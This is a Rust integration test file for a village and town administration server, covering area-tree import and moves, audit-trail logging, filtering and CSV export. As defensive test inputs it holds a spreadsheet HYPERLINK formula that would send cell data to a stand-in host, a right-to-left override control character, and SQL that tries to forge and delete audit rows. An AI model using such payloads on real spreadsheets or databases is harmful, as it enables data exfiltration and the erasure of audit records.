//! The area tree and the audit trail over real HTTP, on SQLite and (with
//! `JIANZHENG_TEST_POSTGRES`) PostgreSQL: an area file imported with the
//! command, villages placed in their town, areas renamed and moved and a
//! move into itself refused with nothing changed; every change made
//! through the town's API in the trail, filtered and exported, and the
//! trail refusing an update or a delete even from SQL.

mod support;

use jianzheng_server::auth::hash_password;
use reqwest::StatusCode;
use serde_json::{json, Value};

const PASSWORD: &str = "a-town-password-1";

async fn started() -> (support::Running, reqwest::Client, String) {
    let srv = support::start().await;
    srv.storage
        .create_user("admin", &hash_password(PASSWORD), false)
        .await
        .unwrap();
    let c = support::town_client(&srv.base, PASSWORD).await;
    let api = format!("{}/api/v1/town", srv.base);
    (srv, c, api)
}

/// `GET /town/areas`, as (code, level, parent) in the order answered.
async fn areas(c: &reqwest::Client, api: &str) -> Vec<(String, String, String)> {
    let list: Vec<Value> = c
        .get(format!("{api}/areas"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    list.iter()
        .map(|a| {
            (
                a["code"].as_str().unwrap().to_owned(),
                a["level"].as_str().unwrap().to_owned(),
                a["parent"].as_str().unwrap_or("").to_owned(),
            )
        })
        .collect()
}

fn owned(rows: &[(&str, &str, &str)]) -> Vec<(String, String, String)> {
    rows.iter()
        .map(|(a, b, c)| (a.to_string(), b.to_string(), c.to_string()))
        .collect()
}

#[tokio::test]
async fn an_area_file_builds_the_tree_and_villages_find_their_town() {
    let (srv, c, api) = started().await;
    let file = srv.data.path().join("county.csv");
    std::fs::write(
        &file,
        "code,name,parent_code\n\
         140105000000,小店区,\n\
         140105001000,坞城街道,140105000000\n\
         140105001001,东关村,140105001000\n\
         140105002000,营盘街道,140105000000\n",
    )
    .unwrap();
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_jianzheng-server"));
    command
        .arg("--data-dir")
        .arg(srv.data.path().join("data"))
        .env_remove("DATABASE_URL");
    if let Some(url) = &srv.database_url {
        command.env("DATABASE_URL", url);
    }
    let out = command
        .arg("areas")
        .arg("import")
        .arg(&file)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("Imported 4 areas"));

    let tree = owned(&[
        ("140105000000", "county", ""),
        ("140105001000", "town", "140105000000"),
        ("140105001001", "village", "140105001000"),
        ("140105002000", "town", "140105000000"),
    ]);
    assert_eq!(areas(&c, &api).await, tree);

    // Below a county a village must say its town.
    let res = c
        .post(format!("{api}/villages"))
        .json(&json!({"code": "140105002201", "name": "营盘村"}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::BAD_REQUEST);
    let body: Value = res.json().await.unwrap();
    assert!(
        body["error"]["detail"].as_str().unwrap().contains("town"),
        "{body}"
    );
    let res = c
        .post(format!("{api}/villages"))
        .json(&json!({"code": "140105002201", "name": "营盘村", "parent": "140105002000"}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::CREATED);
    let res = c
        .post(format!("{api}/villages"))
        .json(&json!({"code": "X1", "name": "无此镇村", "parent": "NOWHERE"}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::NOT_FOUND);

    // Renamed, and a village moved to the other town.
    let put = |code: &str, body: Value| c.put(format!("{api}/areas/{code}")).json(&body).send();
    let res = put(
        "140105002000",
        json!({"name": "营盘镇", "level": "town", "parent": "140105000000"}),
    )
    .await
    .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let res = put(
        "140105001001",
        json!({"name": "东关村", "level": "village", "parent": "140105002000"}),
    )
    .await
    .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let after = owned(&[
        ("140105000000", "county", ""),
        ("140105001000", "town", "140105000000"),
        ("140105002000", "town", "140105000000"),
        ("140105001001", "village", "140105002000"),
        ("140105002201", "village", "140105002000"),
    ]);
    assert_eq!(areas(&c, &api).await, after);
    let villages: Vec<Value> = c
        .get(format!("{api}/villages"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(
        villages.len(),
        2,
        "a village of the tree is a village of the town"
    );

    // Into itself, a village made a town, a town above its county: refused, nothing changed.
    for (code, body) in [
        (
            "140105000000",
            json!({"name": "小店区", "level": "county", "parent": "140105001000"}),
        ),
        (
            "140105002201",
            json!({"name": "营盘村", "level": "town", "parent": "140105000000"}),
        ),
        (
            "140105001000",
            json!({"name": "坞城", "level": "city", "parent": "140105000000"}),
        ),
    ] {
        let res = put(code, body).await.unwrap();
        assert_eq!(res.status(), StatusCode::BAD_REQUEST, "{code}");
    }
    assert_eq!(areas(&c, &api).await, after);
}

#[tokio::test]
async fn a_server_without_areas_puts_its_villages_in_one_town() {
    let (srv, c, api) = started().await;
    assert!(areas(&c, &api).await.is_empty());
    srv.storage
        .upsert_village("140105001201", "东关村")
        .await
        .unwrap();
    let res = c
        .post(format!("{api}/villages"))
        .json(&json!({"code": "140105001202", "name": "西关村"}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::CREATED);
    assert_eq!(
        areas(&c, &api).await,
        owned(&[
            ("TOWN", "town", ""),
            ("140105001201", "village", "TOWN"),
            ("140105001202", "village", "TOWN")
        ])
    );
    // A village code is an area code: a town of the same code is refused.
    let res = c
        .put(format!("{api}/areas/140105001201"))
        .json(&json!({"name": "东关镇", "level": "town", "parent": "TOWN"}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::BAD_REQUEST);
}

/// The trail's kinds, newest first, for `query`.
async fn kinds(c: &reqwest::Client, api: &str, query: &str) -> Vec<String> {
    let rows: Vec<Value> = c
        .get(format!("{api}/audit{query}"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    rows.iter()
        .map(|r| r["kind"].as_str().unwrap().to_owned())
        .collect()
}

#[tokio::test]
async fn every_change_through_the_town_api_is_in_a_trail_nothing_can_change() {
    let (srv, c, api) = started().await;
    // A wrong password for a known name, and an unknown name (not kept).
    for (name, password) in [
        ("admin", "wrong-password-1"),
        ("hunter2-typed-as-name", "x"),
    ] {
        let res = reqwest::Client::new()
            .post(format!("{api}/login"))
            .json(&json!({"name": name, "password": password}))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
    }
    let steps: [(&str, &str, Value); 4] = [
        (
            "POST",
            "villages",
            json!({"code": "140105001201", "name": "东关村"}),
        ),
        ("PUT", "villages/140105001201", json!({"name": "东关社区"})),
        ("POST", "villages/140105001201/enrolment-code", json!({})),
        (
            "PUT",
            "settings",
            json!({"stale_days": 20, "enrolment_code_days": 5}),
        ),
    ];
    let mut code_made = String::new();
    for (method, path, body) in steps {
        let request = match method {
            "POST" => c.post(format!("{api}/{path}")),
            _ => c.put(format!("{api}/{path}")),
        };
        let res = request.json(&body).send().await.unwrap();
        assert!(res.status().is_success(), "{path}: {}", res.status());
        if path.ends_with("enrolment-code") {
            code_made = res.json::<Value>().await.unwrap()["code"]
                .as_str()
                .unwrap()
                .to_owned();
        }
    }
    let res = c
        .post(format!(
            "{api}/villages/140105001201/enrolment-code/withdraw"
        ))
        .send()
        .await
        .unwrap();
    assert!(res.status().is_success());
    let res = c
        .put(format!("{api}/baselines"))
        .json(&json!({"year": 2025, "entries": [{"village": "140105001201", "month": 1, "count": 12}]}))
        .send()
        .await
        .unwrap();
    assert!(res.status().is_success(), "{}", res.status());

    let all = kinds(&c, &api, "").await;
    assert_eq!(
        all,
        [
            "baselines_set",
            "enrolment_codes_withdrawn",
            "settings_changed",
            "enrolment_code_made",
            "village_renamed",
            "village_added",
            "login_failed",
            "login_failed",
            "login",
        ]
    );
    let rows: Vec<Value> = c
        .get(format!("{api}/audit"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let text = serde_json::to_string(&rows).unwrap();
    assert!(
        !text.contains(&code_made),
        "the enrolment code is not in the trail"
    );
    assert!(!text.contains("hunter2"), "an unknown name is not kept");
    let renamed = rows
        .iter()
        .find(|r| r["kind"] == "village_renamed")
        .unwrap();
    assert_eq!(renamed["detail"]["zh"], "东关村 → 东关社区");
    assert_eq!(renamed["detail"]["en"], "东关村 → 东关社区");
    // What changed reads in each language, with the tabs' own words.
    let baselines = rows.iter().find(|r| r["kind"] == "baselines_set").unwrap();
    assert!(
        baselines["detail"]["zh"]
            .as_str()
            .unwrap()
            .starts_with("2025年基线"),
        "{baselines}"
    );
    assert!(
        baselines["detail"]["en"]
            .as_str()
            .unwrap()
            .starts_with("year 2025"),
        "{baselines}"
    );
    assert_eq!(renamed["account"], "admin");
    assert_eq!(renamed["area"], "140105001201");
    assert_eq!(renamed["address"], "127.0.0.1");

    // Filters: by kind, by area (and below), by account, by time, by page.
    assert_eq!(kinds(&c, &api, "?kind=login_failed").await.len(), 2);
    assert_eq!(
        kinds(&c, &api, "?area=TOWN").await.len(),
        4,
        "the village's rows, below its town"
    );
    assert_eq!(kinds(&c, &api, "?account=admin").await.len(), 8);
    assert!(kinds(&c, &api, "?to=2000-01").await.is_empty());
    assert_eq!(kinds(&c, &api, "?from=2000-01").await.len(), all.len());
    let newest = rows[0]["id"].as_i64().unwrap();
    assert_eq!(
        kinds(&c, &api, &format!("?before={newest}")).await.len(),
        all.len() - 1
    );
    for bad in ["?from=yesterday", "?area=NOWHERE", "?kind=bribe"] {
        let res = c.get(format!("{api}/audit{bad}")).send().await.unwrap();
        assert_eq!(res.status(), StatusCode::BAD_REQUEST, "{bad}");
    }

    // The export holds the same rows, in both languages.
    let csv = c
        .get(format!("{api}/audit.csv"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert_eq!(csv.lines().count(), all.len() + 1);
    assert!(csv.contains("村更名 Village renamed"));

    // Not even SQL changes or deletes a row.
    let both = "UPDATE audit SET detail = 'forged';; DELETE FROM audit";
    let refused: Vec<bool> = support::run_beside(&srv, both, both)
        .await
        .into_iter()
        .map(|done| !done)
        .collect();
    assert_eq!(refused, [true, true]);
    assert_eq!(kinds(&c, &api, "").await, all);
}

/// The same, each statement required to succeed.
async fn beside(srv: &support::Running, sqlite: &str, postgres: &str) {
    let done = support::run_beside(srv, sqlite, postgres).await;
    assert!(done.iter().all(|ok| *ok), "{done:?}");
}

#[tokio::test]
async fn a_change_whose_audit_row_cannot_be_written_is_not_made() {
    let (srv, c, api) = started().await;
    let res = c
        .post(format!("{api}/villages"))
        .json(&json!({"code": "140105001201", "name": "东关村"}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::CREATED);
    let before = kinds(&c, &api, "").await;

    // The trail refuses every new row (as a full disk would).
    beside(
        &srv,
        "CREATE TRIGGER audit_full BEFORE INSERT ON audit BEGIN SELECT RAISE(ABORT, 'full'); END",
        "CREATE FUNCTION audit_full() RETURNS trigger AS $$ BEGIN RAISE EXCEPTION 'full'; END $$ LANGUAGE plpgsql;;
         CREATE TRIGGER audit_full BEFORE INSERT ON audit FOR EACH ROW EXECUTE FUNCTION audit_full()",
    )
    .await;
    let changes: [(&str, &str, Value); 4] = [
        ("PUT", "villages/140105001201", json!({"name": "东关社区"})),
        (
            "POST",
            "villages",
            json!({"code": "140105001202", "name": "西关村"}),
        ),
        ("POST", "villages/140105001201/enrolment-code", json!({})),
        (
            "PUT",
            "settings",
            json!({"stale_days": 20, "enrolment_code_days": 5}),
        ),
    ];
    for (method, path, body) in &changes {
        let request = match *method {
            "POST" => c.post(format!("{api}/{path}")),
            _ => c.put(format!("{api}/{path}")),
        };
        let res = request.json(body).send().await.unwrap();
        assert!(
            res.status().is_server_error(),
            "{method} {path}: {}",
            res.status()
        );
        let body: Value = res.json().await.unwrap();
        assert!(body["error"]["code"].is_string(), "{body}");
    }
    // Nothing was changed.
    let villages = srv.storage.villages().await.unwrap();
    let names: Vec<(&str, &str)> = villages
        .iter()
        .map(|v| (v.code.as_str(), v.name.as_str()))
        .collect();
    assert_eq!(names, [("140105001201", "东关村")]);
    assert_eq!(srv.storage.setting("stale_days").await.unwrap(), None);

    // With the trail writable again, the change is made with its row.
    beside(
        &srv,
        "DROP TRIGGER audit_full",
        "DROP TRIGGER audit_full ON audit;; DROP FUNCTION audit_full()",
    )
    .await;
    let res = c
        .put(format!("{api}/villages/140105001201"))
        .json(&json!({"name": "东关社区"}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::NO_CONTENT);
    let after = kinds(&c, &api, "").await;
    assert_eq!(after.len(), before.len() + 1);
    assert_eq!(after[0], "village_renamed");
}

#[tokio::test]
async fn a_name_holding_a_formula_or_a_control_character_reaches_no_file_as_either() {
    let (_srv, c, api) = started().await;
    // A control character is refused at the edge, in both languages, and
    // nothing is stored.
    for bad in ["桃园\u{1}村", "\u{202e}村园桃", "桃园\n村"] {
        let res = c
            .post(format!("{api}/villages"))
            .json(&json!({"code": "140105001209", "name": bad}))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::BAD_REQUEST, "{bad:?}");
        let body: Value = res.json().await.unwrap();
        assert_eq!(body["error"]["code"], "bad_request");
        assert!(body["error"]["message_zh"].as_str().is_some());
    }
    let listed: Vec<Value> = c
        .get(format!("{api}/villages"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert!(listed.iter().all(|v| v["code"] != "140105001209"));
    // A formula is a name like another; the audit export keeps it text.
    let formula = r#"=HYPERLINK("http://x/"&B2,"点此")"#;
    let res = c
        .post(format!("{api}/villages"))
        .json(&json!({"code": "140105001209", "name": formula}))
        .send()
        .await
        .unwrap();
    assert!(res.status().is_success());
    let csv = c
        .get(format!("{api}/audit.csv"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect();
    assert!(cells.iter().any(|cell| cell.contains("HYPERLINK")));
    assert!(
        cells
            .iter()
            .all(|cell| !cell.starts_with(['=', '+', '@']) && !cell.starts_with("-1")),
        "a cell a spreadsheet reads as a formula: {cells:?}"
    );
}
